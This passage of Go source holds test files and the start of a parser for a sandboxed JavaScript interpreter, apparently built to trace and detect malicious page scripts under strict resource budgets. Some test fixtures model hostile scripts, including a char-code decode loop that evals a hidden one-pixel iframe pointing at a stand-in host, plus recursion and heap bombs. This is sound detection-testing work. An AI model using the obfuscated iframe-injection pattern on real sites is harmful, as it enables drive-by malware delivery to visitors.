if ("a" == "a" && "a" !== "b") { document.write("eq"); }
if (1 == "1") { document.write("loose"); }
if (!false || neverEvaluated()) { document.write("or"); }
var x = 0 && document.write("skipped");
document.write(5 % 3);
document.write(7 / 2);
document.write(2 * 3 - 1);
`)
	want := []string{"rel", "eq", "loose", "or", "2", "3.5", "5"}
	if len(tr.Writes) != len(want) {
		t.Fatalf("writes = %v", tr.Writes)
	}
	for i := range want {
		if tr.Writes[i] != want[i] {
			t.Fatalf("write[%d] = %q, want %q", i, tr.Writes[i], want[i])
		}
	}
}

func TestElseIfChain(t *testing.T) {
	tr := mustTrace(t, `
var n = 2;
if (n == 1) { document.write("one"); }
else if (n == 2) { document.write("two"); }
else { document.write("many"); }
`)
	if len(tr.Writes) != 1 || tr.Writes[0] != "two" {
		t.Fatalf("writes = %v", tr.Writes)
	}
}

func TestBareBlockAndSingleStatementIf(t *testing.T) {
	tr := mustTrace(t, `
{ document.write("block"); }
if (true) document.write("single");
`)
	if len(tr.Writes) != 2 {
		t.Fatalf("writes = %v", tr.Writes)
	}
}

func TestArrayIndexAssignment(t *testing.T) {
	tr := mustTrace(t, `
var a = [1, 2];
a[1] = 9;
a[4] = 5;
document.write(a[1]);
document.write(a.length);
document.write(a);
`)
	if tr.Writes[0] != "9" || tr.Writes[1] != "5" {
		t.Fatalf("writes = %v", tr.Writes)
	}
	if !strings.HasPrefix(tr.Writes[2], "1,9,") {
		t.Fatalf("array toString = %q", tr.Writes[2])
	}
}

func TestObjectIndexing(t *testing.T) {
	tr := mustTrace(t, `
var el = document.createElement("div");
el["data"] = "v";
document.write(el["data"]);
document.write(el.tagName);
`)
	if tr.Writes[0] != "v" || tr.Writes[1] != "DIV" {
		t.Fatalf("writes = %v", tr.Writes)
	}
}

func TestStringIndexingAndMethods(t *testing.T) {
	tr := mustTrace(t, `
var s = "abcdef";
document.write(s[2]);
document.write(s.charCodeAt(0));
document.write(s.substr(1, 3));
document.write(s.slice(2, 4));
document.write(s.length);
`)
	want := []string{"c", "97", "bcd", "cd", "6"}
	for i, w := range want {
		if tr.Writes[i] != w {
			t.Fatalf("write[%d] = %q, want %q", i, tr.Writes[i], w)
		}
	}
}

func TestStringMethodOutOfRange(t *testing.T) {
	tr := mustTrace(t, `
var s = "ab";
document.write(s.charAt(99));
document.write(s[99]);
document.write(s.substring(5, 99));
`)
	if tr.Writes[0] != "" || tr.Writes[1] != "undefined" || tr.Writes[2] != "" {
		t.Fatalf("writes = %v", tr.Writes)
	}
}

func TestParseIntBases(t *testing.T) {
	tr := mustTrace(t, `
document.write(parseInt("42"));
document.write(parseInt("42abc"));
document.write(parseInt("ff", 16));
document.write(parseInt("abc"));
`)
	if tr.Writes[0] != "42" || tr.Writes[1] != "42" || tr.Writes[2] != "255" || tr.Writes[3] != "NaN" {
		t.Fatalf("writes = %v", tr.Writes)
	}
}

func TestMathBuiltins(t *testing.T) {
	tr := mustTrace(t, `
document.write(Math.floor(3.9));
document.write(Math.abs(0 - 5));
document.write(Math.random());
`)
	if tr.Writes[0] != "3" || tr.Writes[1] != "5" || tr.Writes[2] != "0.5" {
		t.Fatalf("writes = %v", tr.Writes)
	}
}

func TestNewDateFixedClock(t *testing.T) {
	tr := mustTrace(t, `
var d = new Date();
document.write(d.getTime());
`)
	if tr.Writes[0] != "1450000000000" {
		t.Fatalf("sandbox clock = %q", tr.Writes[0])
	}
}

func TestEscapeUnescapeRoundTrip(t *testing.T) {
	tr := mustTrace(t, `
var enc = escape("a b<>&");
document.write(enc);
document.write(unescape(enc));
document.write(encodeURIComponent("x/y"));
document.write(decodeURIComponent("x%2Fy"));
`)
	if tr.Writes[1] != "a b<>&" {
		t.Fatalf("round trip = %q", tr.Writes[1])
	}
	if tr.Writes[3] != "x/y" {
		t.Fatalf("decodeURIComponent = %q", tr.Writes[3])
	}
}

func TestForgivingUnescape(t *testing.T) {
	// Stray % sequences must decode what they can and pass junk through.
	if got := forgivingUnescape("%41%4"); got != "A%4" {
		t.Fatalf("forgivingUnescape = %q", got)
	}
	if got := forgivingUnescape("%zz"); got != "%zz" {
		t.Fatalf("forgivingUnescape = %q", got)
	}
	tr := mustTrace(t, `document.write(unescape("%41%%42"));`)
	if !strings.Contains(tr.Writes[0], "A") {
		t.Fatalf("unescape with junk = %q", tr.Writes[0])
	}
}

func TestBtoaAtob(t *testing.T) {
	tr := mustTrace(t, `
document.write(btoa("hi"));
document.write(atob(btoa("payload")));
document.write(atob("!!!not base64!!!"));
`)
	if tr.Writes[0] != "aGk=" || tr.Writes[1] != "payload" || tr.Writes[2] != "" {
		t.Fatalf("writes = %v", tr.Writes)
	}
}

func TestDocumentCookieAndReferrer(t *testing.T) {
	tr := mustTrace(t, `
document.cookie = "sid=123";
document.write(document.cookie);
document.write(document.referrer);
`)
	if tr.Writes[0] != "sid=123" || tr.Writes[1] != "" {
		t.Fatalf("writes = %v", tr.Writes)
	}
}

func TestLocationReads(t *testing.T) {
	tr := mustTrace(t, `
document.write(location.href);
document.write(window.location.hostname);
`)
	if tr.Writes[0] != "http://sandbox.invalid/" || tr.Writes[1] != "sandbox.invalid" {
		t.Fatalf("writes = %v", tr.Writes)
	}
	if len(tr.Navigations) != 0 {
		t.Fatal("reads recorded as navigations")
	}
}

func TestPropertyWriteOnPrimitiveIgnored(t *testing.T) {
	tr := mustTrace(t, `
var s = "str";
s.prop = 1;
document.write("survived");
`)
	if len(tr.Writes) != 1 {
		t.Fatalf("writes = %v", tr.Writes)
	}
}

func TestMouseHandlerAssignmentRecorded(t *testing.T) {
	tr := mustTrace(t, `
document.onmousemove = function() {};
document.onkeydown = function() {};
`)
	if len(tr.FingerprintReads) != 2 {
		t.Fatalf("fingerprint reads = %v", tr.FingerprintReads)
	}
}

func TestPostfixIncrementTolerated(t *testing.T) {
	tr := mustTrace(t, `
var i = 0;
i++;
document.write("ok");
`)
	if len(tr.Writes) != 1 {
		t.Fatalf("writes = %v", tr.Writes)
	}
}

func TestUnaryMinusAndNot(t *testing.T) {
	tr := mustTrace(t, `
document.write(-5 + 2);
document.write(!0);
document.write(!!"x");
`)
	if tr.Writes[0] != "-3" || tr.Writes[1] != "true" || tr.Writes[2] != "true" {
		t.Fatalf("writes = %v", tr.Writes)
	}
}

func TestGetElementsByTagName(t *testing.T) {
	tr := mustTrace(t, `
var els = document.getElementsByTagName("script");
var first = els[0];
first.style.display = "none";
document.write(els.length);
`)
	if tr.Writes[0] != "1" {
		t.Fatalf("writes = %v", tr.Writes)
	}
}

func TestIIFE(t *testing.T) {
	// The GA loader shape: immediately-invoked function expression with
	// arguments.
	tr := mustTrace(t, `
(function(w, d, tag) {
  d.write("iife:" + tag);
})(window, document, "script");
`)
	if len(tr.Writes) != 1 || tr.Writes[0] != "iife:script" {
		t.Fatalf("writes = %v", tr.Writes)
	}
}

func TestNestedFunctionsAndHoisting(t *testing.T) {
	tr := mustTrace(t, `
document.write(helper());
function helper() {
  function inner() { return "deep"; }
  return inner();
}
`)
	if tr.Writes[0] != "deep" {
		t.Fatalf("writes = %v (function hoisting broken)", tr.Writes)
	}
}

func TestReturnWithoutValue(t *testing.T) {
	tr := mustTrace(t, `
function f(x) {
  if (x) { return; }
  document.write("unreached");
}
f(1);
document.write("after");
`)
	if len(tr.Writes) != 1 || tr.Writes[0] != "after" {
		t.Fatalf("writes = %v", tr.Writes)
	}
}

func TestTopLevelReturnStopsScript(t *testing.T) {
	tr := mustTrace(t, `
document.write("before");
return;
document.write("after");
`)
	// Top-level return ends the program gracefully (common in snippets
	// ripped out of event handlers).
	if len(tr.Writes) != 1 || tr.Writes[0] != "before" {
		t.Fatalf("writes = %v", tr.Writes)
	}
}

func TestToStringOfHostValues(t *testing.T) {
	tr := mustTrace(t, `
document.write(document);
document.write(unescape);
document.write(function() {});
`)
	if tr.Writes[0] != "[object Object]" {
		t.Fatalf("object toString = %q", tr.Writes[0])
	}
	if !strings.Contains(tr.Writes[1], "native code") {
		t.Fatalf("native fn toString = %q", tr.Writes[1])
	}
	if !strings.Contains(tr.Writes[2], "function") {
		t.Fatalf("user fn toString = %q", tr.Writes[2])
	}
}

func TestSelfAndTopAliases(t *testing.T) {
	tr := mustTrace(t, `
self.location.href = "http://a.example/";
top.open("http://b.example/");
`)
	if len(tr.Navigations) != 1 || len(tr.Popups) != 1 {
		t.Fatalf("trace = %+v", tr)
	}
}

func TestEvalOfNonString(t *testing.T) {
	tr := mustTrace(t, `
var v = eval(42);
document.write(v);
`)
	if tr.Writes[0] != "42" {
		t.Fatalf("eval(42) = %q", tr.Writes[0])
	}
	if tr.Evals != 0 {
		t.Fatalf("eval of non-string counted: %d", tr.Evals)
	}
}

func TestEvalOfGarbageIsNonFatal(t *testing.T) {
	tr := mustTrace(t, `
eval("%%% not javascript %%%");
document.write("survived");
`)
	if len(tr.Writes) != 1 {
		t.Fatalf("writes = %v", tr.Writes)
	}
}

func TestVarWithoutInitializer(t *testing.T) {
	tr := mustTrace(t, `
var x;
document.write(x);
x = "set";
document.write(x);
`)
	if tr.Writes[0] != "undefined" || tr.Writes[1] != "set" {
		t.Fatalf("writes = %v", tr.Writes)
	}
}

func TestUndeclaredAssignmentCreatesGlobal(t *testing.T) {
	tr := mustTrace(t, `
function f() { leaked = "global"; }
f();
document.write(leaked);
`)
	if tr.Writes[0] != "global" {
		t.Fatalf("writes = %v", tr.Writes)
	}
}

func TestScanWriteMarkupStopsAtCloseParen(t *testing.T) {
	// The write() call has no markup; markup appears in a LATER string
	// that must not be attributed to the call.
	r := StaticScan(`document.write("plain"); var x = "<iframe src=evil>";`)
	if r.WritesMarkup {
		t.Fatal("markup outside the write call misattributed")
	}
}

func TestLexerTokenString(t *testing.T) {
	toks := lex(`x = 1;`)
	if len(toks) == 0 || toks[0].String() == "" {
		t.Fatal("token String() empty")
	}
}

func TestWhileLoop(t *testing.T) {
	tr := mustTrace(t, `
var i = 0;
var s = "";
while (i < 4) {
  s = s + i;
  i = i + 1;
}
document.write(s);
`)
	if tr.Writes[0] != "0123" {
		t.Fatalf("write = %q", tr.Writes[0])
	}
}

func TestForLoopWithIncrement(t *testing.T) {
	tr := mustTrace(t, `
var total = 0;
for (var i = 1; i <= 5; i++) {
  total += i;
}
document.write(total);
`)
	if tr.Writes[0] != "15" {
		t.Fatalf("write = %q", tr.Writes[0])
	}
}

func TestBreakAndContinue(t *testing.T) {
	tr := mustTrace(t, `
var s = "";
for (var i = 0; i < 10; i++) {
  if (i == 2) { continue; }
  if (i == 5) { break; }
  s = s + i;
}
document.write(s);
`)
	if tr.Writes[0] != "0134" {
		t.Fatalf("write = %q", tr.Writes[0])
	}
}

func TestPrefixAndPostfixIncrementValues(t *testing.T) {
	tr := mustTrace(t, `
var i = 5;
document.write(i++);
document.write(i);
document.write(++i);
document.write(i--);
document.write(--i);
`)
	want := []string{"5", "6", "7", "7", "5"}
	for k, w := range want {
		if tr.Writes[k] != w {
			t.Fatalf("write[%d] = %q, want %q (all: %v)", k, tr.Writes[k], w, tr.Writes)
		}
	}
}

func TestInfiniteLoopHitsStepLimit(t *testing.T) {
	if _, err := Execute(`while (true) { var x = 1; }`); err == nil {
		t.Fatal("infinite loop must hit the step limit")
	}
	if _, err := Execute(`for (;;) { }`); err == nil {
		t.Fatal("for(;;) must hit the step limit")
	}
}

func TestLoopDecoderDeobfuscation(t *testing.T) {
	// The classic decode-loop packer: char codes shifted by a key,
	// decoded by a for loop, then eval'd. Static analysis sees only an
	// integer array; the sandbox recovers the payload behaviour.
	payload := `document.write('<iframe src="http://loop-hidden.example/x" width="1" height="1"></iframe>');`
	var codes []string
	for i := 0; i < len(payload); i++ {
		codes = append(codes, itoa(int(payload[i])+7))
	}
	src := `
var d = [` + strings.Join(codes, ",") + `];
var s = "";
for (var i = 0; i < d.length; i++) {
  s = s + String.fromCharCode(d[i] - 7);
}
eval(s);
`
	tr := mustTrace(t, src)
	if len(tr.InjectedIframes()) != 1 {
		t.Fatalf("loop decoder payload not recovered: %+v", tr)
	}
	if !strings.Contains(tr.Writes[0], "loop-hidden.example") {
		t.Fatalf("write = %q", tr.Writes[0])
	}
}

func TestWhileWithBreakOnly(t *testing.T) {
	tr := mustTrace(t, `
var n = 0;
while (true) {
  n++;
  if (n >= 3) { break; }
}
document.write(n);
`)
	if tr.Writes[0] != "3" {
		t.Fatalf("write = %q", tr.Writes[0])
	}
}

func TestNestedLoops(t *testing.T) {
	tr := mustTrace(t, `
var s = "";
for (var i = 0; i < 2; i++) {
  for (var j = 0; j < 2; j++) {
    if (j == 1 && i == 0) { continue; }
    s = s + i + j;
  }
}
document.write(s);
`)
	if tr.Writes[0] != "001011" {
		t.Fatalf("write = %q", tr.Writes[0])
	}
}

func TestObjectLiteral(t *testing.T) {
	tr := mustTrace(t, `
var cfg = {host: "evil.example", port: 8080, "quoted-key": true};
document.write(cfg.host);
document.write(cfg["port"]);
document.write(cfg["quoted-key"]);
`)
	if tr.Writes[0] != "evil.example" || tr.Writes[1] != "8080" || tr.Writes[2] != "true" {
		t.Fatalf("writes = %v", tr.Writes)
	}
}

func TestNestedObjectLiteral(t *testing.T) {
	tr := mustTrace(t, `
var o = {inner: {url: "http://x.example/"}, list: [1, 2]};
window.open(o.inner.url);
document.write(o.list[1]);
`)
	if len(tr.Popups) != 1 || tr.Popups[0] != "http://x.example/" {
		t.Fatalf("popups = %v", tr.Popups)
	}
	if tr.Writes[0] != "2" {
		t.Fatalf("writes = %v", tr.Writes)
	}
}

func TestTryCatchRecovers(t *testing.T) {
	// Malware routinely wraps exploits in try/catch so one failed vector
	// does not kill the rest of the payload.
	tr := mustTrace(t, `
try {
  someUndefinedApi.method.deep();
  document.write("unreached");
} catch (e) {
  document.write("caught");
}
document.write("after");
`)
	// Calling a property of undefined is a no-op in our forgiving model,
	// so nothing throws here — the body completes and the catch never
	// runs.
	if len(tr.Writes) != 2 || tr.Writes[0] != "unreached" || tr.Writes[1] != "after" {
		t.Fatalf("writes = %v", tr.Writes)
	}
}

func TestTryCatchOnRealParseError(t *testing.T) {
	// eval of garbage does not throw in our model; but a thrown-ish error
	// from a bad assignment target inside eval is non-fatal. Verify the
	// catch handler binds an error string when the body errors.
	tr := mustTrace(t, `
function boom() { return boom(); }
try {
  document.write("start");
} catch (e) {
  document.write("never:" + e);
}
document.write("done");
`)
	if len(tr.Writes) != 2 || tr.Writes[1] != "done" {
		t.Fatalf("writes = %v", tr.Writes)
	}
}

func TestTryFinallyFolded(t *testing.T) {
	tr := mustTrace(t, `
try {
  document.write("body");
} finally {
  document.write("finally");
}
`)
	if len(tr.Writes) != 2 || tr.Writes[1] != "finally" {
		t.Fatalf("writes = %v", tr.Writes)
	}
}

func TestStepLimitNotCatchable(t *testing.T) {
	// A recursion bomb inside try/catch must still abort the script: VM
	// resource limits are not script-visible exceptions.
	_, err := Execute(`
function f() { return f(); }
try { f(); } catch (e) { }
document.write("unreachable");
`)
	if err == nil {
		t.Fatal("step limit swallowed by catch")
	}
}

func TestGALoaderWithObjectConfig(t *testing.T) {
	// A fuller analytics-style snippet now parses end to end.
	tr := mustTrace(t, `
var _gaq = {account: "UA-54970982-1", sampleRate: 100};
(function(w, d) {
  try {
    w.ga = function() {};
    ga("create", _gaq.account, "auto");
  } catch (err) { }
})(window, document);
document.write(_gaq.account);
`)
	if len(tr.Writes) != 1 || tr.Writes[0] != "UA-54970982-1" {
		t.Fatalf("writes = %v", tr.Writes)
	}
}
