package jsengine

import (
	"errors"
	"reflect"
	"testing"
	"time"
)

// execTwice runs the same (src, budget) pair twice and fails unless both
// runs produce byte-identical traces and identical errors — the sandbox
// determinism contract.
func execTwice(t *testing.T, src string, b Budget) (*Trace, error) {
	t.Helper()
	tr1, err1 := ExecuteBudget(src, b)
	tr2, err2 := ExecuteBudget(src, b)
	if !reflect.DeepEqual(tr1, tr2) {
		t.Fatalf("trace not deterministic:\nfirst:  %+v\nsecond: %+v", tr1, tr2)
	}
	if (err1 == nil) != (err2 == nil) || (err1 != nil && err1.Error() != err2.Error()) {
		t.Fatalf("error not deterministic: %v vs %v", err1, err2)
	}
	return tr1, err1
}

// TestBudgetEdges drives each budget axis to its edge and asserts the
// exact structured code. Budgets are taken literally: zero fuel means
// zero fuel, not "use the default".
func TestBudgetEdges(t *testing.T) {
	big := Budget{Fuel: 1 << 20, HeapBytes: 1 << 24, OutputBytes: 1 << 20, EvalDepth: 8}
	cases := []struct {
		name   string
		src    string
		budget Budget
		want   Code
	}{
		{
			name:   "zero fuel",
			src:    "var x = 1;",
			budget: Budget{Fuel: 0, HeapBytes: 1 << 20, OutputBytes: 1 << 20, EvalDepth: 8},
			want:   CodeFuelExhausted,
		},
		{
			name:   "one unit of fuel",
			src:    "var x = 1;",
			budget: Budget{Fuel: 1, HeapBytes: 1 << 20, OutputBytes: 1 << 20, EvalDepth: 8},
			want:   CodeFuelExhausted,
		},
		{
			name:   "heap cap smaller than the source",
			src:    "var x = \"aaaaaaaaaaaaaaaaaaaaaaaa\";",
			budget: Budget{Fuel: 1 << 20, HeapBytes: 8, OutputBytes: 1 << 20, EvalDepth: 8},
			want:   CodeHeapLimit,
		},
		{
			name:   "fuel runs out mid-loop",
			src:    "var i = 0; while (true) { i = i + 1; }",
			budget: big,
			want:   CodeFuelExhausted,
		},
		{
			name:   "heap runs out mid-doubling",
			src:    "var s = \"aaaaaaaa\"; while (true) { s = s + s; }",
			budget: big,
			want:   CodeHeapLimit,
		},
		{
			name:   "output cap mid-write",
			src:    `document.write("0123456789"); document.write("0123456789");`,
			budget: Budget{Fuel: 1 << 20, HeapBytes: 1 << 24, OutputBytes: 15, EvalDepth: 8},
			want:   CodeOutputLimit,
		},
		{
			name:   "wall clock",
			src:    "var i = 0; while (true) { i = i + 1; }",
			budget: Budget{Fuel: 1 << 40, HeapBytes: 1 << 24, OutputBytes: 1 << 20, EvalDepth: 8, Wall: time.Nanosecond},
			want:   CodeTimeout,
		},
		{
			name:   "eval depth",
			src:    `function f() { eval("f()"); } f();`,
			budget: Budget{Fuel: 1 << 20, HeapBytes: 1 << 24, OutputBytes: 1 << 20, EvalDepth: 2},
			want:   CodeEvalError,
		},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			tr, err := execTwice(t, tc.src, tc.budget)
			code, ok := CodeOf(err)
			if !ok {
				t.Fatalf("error %v is not a SandboxError", err)
			}
			if code != tc.want {
				t.Fatalf("code = %s, want %s", code, tc.want)
			}
			if tr == nil {
				t.Fatal("no trace returned alongside the structured error")
			}
			if tr.FuelUsed > tc.budget.Fuel {
				t.Fatalf("FuelUsed %d exceeds budget %d", tr.FuelUsed, tc.budget.Fuel)
			}
		})
	}
}

// TestOutputCapPartialWrite pins the deterministic trip point: the write
// that crosses the cap is truncated to exactly the remaining budget, so
// the partial trace is reproducible byte for byte.
func TestOutputCapPartialWrite(t *testing.T) {
	src := `document.write("0123456789"); document.write("abcdefghij");`
	b := Budget{Fuel: 1 << 20, HeapBytes: 1 << 24, OutputBytes: 15, EvalDepth: 8}
	tr, err := execTwice(t, src, b)
	if code, _ := CodeOf(err); code != CodeOutputLimit {
		t.Fatalf("err = %v, want %s", err, CodeOutputLimit)
	}
	want := []string{"0123456789", "abcde"}
	if !reflect.DeepEqual(tr.Writes, want) {
		t.Fatalf("partial writes = %q, want %q", tr.Writes, want)
	}
}

// TestResourceCodesUncatchable wraps each violation in try/catch: the
// structured error must still surface. A catchable resource error would
// let `try { while(true){} } catch (e) {}` spin forever.
func TestResourceCodesUncatchable(t *testing.T) {
	big := Budget{Fuel: 1 << 20, HeapBytes: 1 << 24, OutputBytes: 64, EvalDepth: 4}
	cases := []struct {
		name string
		src  string
		want Code
	}{
		{"fuel", "try { while (true) { var i = 1; } } catch (e) { var c = 1; }", CodeFuelExhausted},
		{"heap", "try { var s = \"aaaaaaaa\"; while (true) { s = s + s; } } catch (e) { }", CodeHeapLimit},
		{"output", "try { while (true) { document.write(\"xxxxxxxxxx\"); } } catch (e) { }", CodeOutputLimit},
		{"eval depth", `function f() { try { eval("f()"); } catch (e) { } } f();`, CodeEvalError},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			_, err := ExecuteBudget(tc.src, big)
			code, ok := CodeOf(err)
			if !ok || code != tc.want {
				t.Fatalf("err = %v (code %s, structured %v), want uncaught %s", err, code, ok, tc.want)
			}
		})
	}
}

// TestPlainEvalFailureStaysNonFatal is the counterpart to
// uncatchability: an in-script eval of garbage is a script-level problem,
// not a budget violation — it must neither abort the run nor surface a
// structured code, or benign pages with broken decoders would read as
// bombs.
func TestPlainEvalFailureStaysNonFatal(t *testing.T) {
	tr, err := ExecuteBudget(`eval("syntax ^^^ error"); document.write("alive");`, DefaultBudget())
	if err != nil {
		t.Fatalf("in-script eval failure escaped the script: %v", err)
	}
	if len(tr.Writes) != 1 || tr.Writes[0] != "alive" {
		t.Fatalf("script did not continue past the bad eval: writes = %q", tr.Writes)
	}
}

// TestDefaultBudgetSucceedsOnRealWork sanity-checks that production
// defaults leave ordinary scripts untouched.
func TestDefaultBudgetSucceedsOnRealWork(t *testing.T) {
	src := `var s = ""; for (var i = 0; i < 100; i = i + 1) { s = s + "x"; } document.write(s.length);`
	tr, err := Execute(src)
	if err != nil {
		t.Fatalf("default budget tripped on ordinary work: %v", err)
	}
	if tr.FuelUsed == 0 {
		t.Fatal("no fuel accounted")
	}
}

// TestCodeOfForeignError pins the boundary contract: every error leaving
// ExecuteBudget is a *SandboxError.
func TestCodeOfForeignError(t *testing.T) {
	if _, ok := CodeOf(errors.New("plain")); ok {
		t.Fatal("CodeOf matched a non-sandbox error")
	}
	_, err := ExecuteBudget("} syntax {", DefaultBudget())
	code, ok := CodeOf(err)
	if !ok || code != CodeEvalError {
		t.Fatalf("parse failure surfaced as %v (code %s), want %s", err, code, CodeEvalError)
	}
}
