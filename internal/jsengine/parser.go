package jsengine

import (
	"errors"
	"fmt"
	"strconv"
	"strings"
)

// AST node kinds. The dialect is intentionally small; see the package
// comment for the coverage rationale.

type node interface{ nodeTag() string }

type (
	// stmtVar is `var name = expr;` (initializer optional).
	stmtVar struct {
		name string
		init node
	}
	// stmtAssign is `target = expr;` where target is an identifier or
	// member chain. op is "=", "+=" or "-=".
	stmtAssign struct {
		target node // identExpr or memberExpr
		op     string
		value  node
	}
	// stmtExpr is a bare expression statement (usually a call).
	stmtExpr struct{ expr node }
	// stmtIf is if/else.
	stmtIf struct {
		cond      node
		then, alt []node
	}
	// stmtFunc is `function name(params) { body }`.
	stmtFunc struct {
		name   string
		params []string
		body   []node
	}
	// stmtReturn is `return expr;`.
	stmtReturn struct{ expr node }
	// stmtWhile is `while (cond) { body }`.
	stmtWhile struct {
		cond node
		body []node
	}
	// stmtFor is `for (init; cond; post) { body }`; any clause may be nil.
	stmtFor struct {
		init node
		cond node
		post node
		body []node
	}
	// stmtBreak and stmtContinue are loop control.
	stmtBreak    struct{}
	stmtContinue struct{}
	// stmtTry is `try { body } catch (name) { handler }` (finally is out
	// of dialect).
	stmtTry struct {
		body      []node
		catchName string
		handler   []node
	}

	identExpr  struct{ name string }
	stringExpr struct{ val string }
	numberExpr struct{ val float64 }
	boolExpr   struct{ val bool }
	// memberExpr is obj.prop.
	memberExpr struct {
		obj  node
		prop string
	}
	// indexExpr is obj[expr].
	indexExpr struct {
		obj   node
		index node
	}
	// callExpr is fn(args).
	callExpr struct {
		fn   node
		args []node
	}
	// newExpr is `new Ctor(args)`.
	newExpr struct {
		ctor node
		args []node
	}
	// binExpr is a binary operation.
	binExpr struct {
		op   string
		l, r node
	}
	// unaryExpr is !x or -x or typeof x.
	unaryExpr struct {
		op string
		x  node
	}
	// arrayExpr is [a, b, c].
	arrayExpr struct{ elems []node }
	// funcExpr is `function(params) { body }`.
	funcExpr struct {
		params []string
		body   []node
	}
	// condExpr is cond ? a : b.
	condExpr struct {
		cond, then, alt node
	}
	// incExpr is x++ / x-- / ++x / --x on an lvalue.
	incExpr struct {
		target node // identExpr, memberExpr or indexExpr
		op     string
		prefix bool
	}
	// objectExpr is an object literal {k: v, "k2": v2}.
	objectExpr struct {
		keys []string
		vals []node
	}
)

func (stmtVar) nodeTag() string      { return "var" }
func (stmtAssign) nodeTag() string   { return "assign" }
func (stmtExpr) nodeTag() string     { return "expr" }
func (stmtIf) nodeTag() string       { return "if" }
func (stmtFunc) nodeTag() string     { return "func" }
func (stmtReturn) nodeTag() string   { return "return" }
func (stmtWhile) nodeTag() string    { return "while" }
func (stmtFor) nodeTag() string      { return "for" }
func (stmtBreak) nodeTag() string    { return "break" }
func (stmtContinue) nodeTag() string { return "continue" }
func (stmtTry) nodeTag() string      { return "try" }
func (objectExpr) nodeTag() string   { return "object" }
func (identExpr) nodeTag() string    { return "ident" }
func (stringExpr) nodeTag() string   { return "string" }
func (numberExpr) nodeTag() string   { return "number" }
func (boolExpr) nodeTag() string     { return "bool" }
func (memberExpr) nodeTag() string   { return "member" }
func (indexExpr) nodeTag() string    { return "index" }
func (callExpr) nodeTag() string     { return "call" }
func (newExpr) nodeTag() string      { return "new" }
func (binExpr) nodeTag() string      { return "bin" }
func (unaryExpr) nodeTag() string    { return "unary" }
func (arrayExpr) nodeTag() string    { return "array" }
func (funcExpr) nodeTag() string     { return "funcexpr" }
func (condExpr) nodeTag() string     { return "cond" }
func (incExpr) nodeTag() string      { return "inc" }

type parser struct {
	toks  []token
	pos   int
	depth int
}

// errTooComplex marks scripts the parser declines (deep nesting, runaway
// token streams). The analyzer treats such scripts as "static only".
var errTooComplex = errors.New("jsengine: script too complex for sandbox")

const (
	maxTokens     = 200000
	maxParseDepth = 200
)

// parseProgram parses src into a statement list, charging the meter for
// the interned source and one fuel unit per token. Lexing stops early once
// the token stream could no longer fit the remaining fuel, so a
// fuel-starved parse of a huge input does bounded work.
func parseProgram(src string, m *meter) ([]node, error) {
	if err := m.chargeHeap(int64(len(src))); err != nil {
		return nil, err
	}
	// The AST copies out token text (strings); the token structs themselves
	// die with the parser, so the slice goes back to the pool on return.
	tp := borrowToks()
	defer returnToks(tp)
	tokenCap := int64(maxTokens)
	if left := m.fuelLeft(); left < tokenCap {
		tokenCap = left
	}
	toks, truncated := lexIntoCap(src, *tp, int(tokenCap)+1)
	*tp = toks
	if err := m.charge(int64(len(toks))); err != nil {
		return nil, err
	}
	if truncated {
		return nil, errTooComplex
	}
	p := &parser{toks: toks}
	var stmts []node
	for !p.at(tokEOF) {
		before := p.pos
		s, err := p.statement()
		if err != nil {
			return nil, err
		}
		if s != nil {
			stmts = append(stmts, s)
		}
		if p.pos == before {
			// Defensive: never loop without progress.
			p.pos++
		}
	}
	return stmts, nil
}

func (p *parser) cur() token          { return p.toks[p.pos] }
func (p *parser) at(k tokenKind) bool { return p.cur().kind == k }

func (p *parser) atPunct(s string) bool {
	t := p.cur()
	return t.kind == tokPunct && t.text == s
}

func (p *parser) atIdent(s string) bool {
	t := p.cur()
	return t.kind == tokIdent && t.text == s
}

func (p *parser) advance() token {
	t := p.toks[p.pos]
	if p.pos < len(p.toks)-1 {
		p.pos++
	}
	return t
}

func (p *parser) expectPunct(s string) error {
	if !p.atPunct(s) {
		return fmt.Errorf("jsengine: expected %q at offset %d, got %q", s, p.cur().pos, p.cur().text)
	}
	p.advance()
	return nil
}

func (p *parser) eatSemis() {
	for p.atPunct(";") {
		p.advance()
	}
}

// enter/exit bound recursive-descent depth. Every parser cycle (nested
// blocks, parenthesized expressions, unary chains, comma var lists) passes
// through statement, ternary, unary or varStatement2, so guarding those
// four keeps pathological nesting from overflowing the Go stack.
func (p *parser) enter() error {
	p.depth++
	if p.depth > maxParseDepth {
		return errTooComplex
	}
	return nil
}

func (p *parser) exit() { p.depth-- }

func (p *parser) statement() (node, error) {
	p.eatSemis()
	if p.at(tokEOF) {
		return nil, nil
	}
	if err := p.enter(); err != nil {
		return nil, err
	}
	defer p.exit()
	switch {
	case p.atIdent("var") || p.atIdent("let") || p.atIdent("const"):
		return p.varStatement()
	case p.atIdent("if"):
		return p.ifStatement()
	case p.atIdent("while"):
		return p.whileStatement()
	case p.atIdent("for"):
		return p.forStatement()
	case p.atIdent("break"):
		p.advance()
		p.eatSemis()
		return stmtBreak{}, nil
	case p.atIdent("continue"):
		p.advance()
		p.eatSemis()
		return stmtContinue{}, nil
	case p.atIdent("try"):
		return p.tryStatement()
	case p.atIdent("function"):
		return p.funcStatement()
	case p.atIdent("return"):
		p.advance()
		if p.atPunct(";") || p.atPunct("}") || p.at(tokEOF) {
			p.eatSemis()
			return stmtReturn{}, nil
		}
		e, err := p.expression()
		if err != nil {
			return nil, err
		}
		p.eatSemis()
		return stmtReturn{expr: e}, nil
	case p.atPunct("{"):
		// A bare block: parse as an if(true)-style wrapper to keep the
		// AST simple.
		body, err := p.block()
		if err != nil {
			return nil, err
		}
		return stmtIf{cond: boolExpr{val: true}, then: body}, nil
	}
	// Expression or assignment statement.
	e, err := p.expression()
	if err != nil {
		return nil, err
	}
	if p.atPunct("=") || p.atPunct("+=") || p.atPunct("-=") {
		op := p.advance().text
		switch e.(type) {
		case identExpr, memberExpr, indexExpr:
		default:
			return nil, fmt.Errorf("jsengine: invalid assignment target at offset %d", p.cur().pos)
		}
		v, err := p.expression()
		if err != nil {
			return nil, err
		}
		p.eatSemis()
		return stmtAssign{target: e, op: op, value: v}, nil
	}
	p.eatSemis()
	return stmtExpr{expr: e}, nil
}

func (p *parser) varStatement() (node, error) {
	p.advance() // var/let/const
	t := p.cur()
	if t.kind != tokIdent {
		return nil, fmt.Errorf("jsengine: expected identifier after var at offset %d", t.pos)
	}
	name := p.advance().text
	var init node
	if p.atPunct("=") {
		p.advance()
		e, err := p.expression()
		if err != nil {
			return nil, err
		}
		init = e
	}
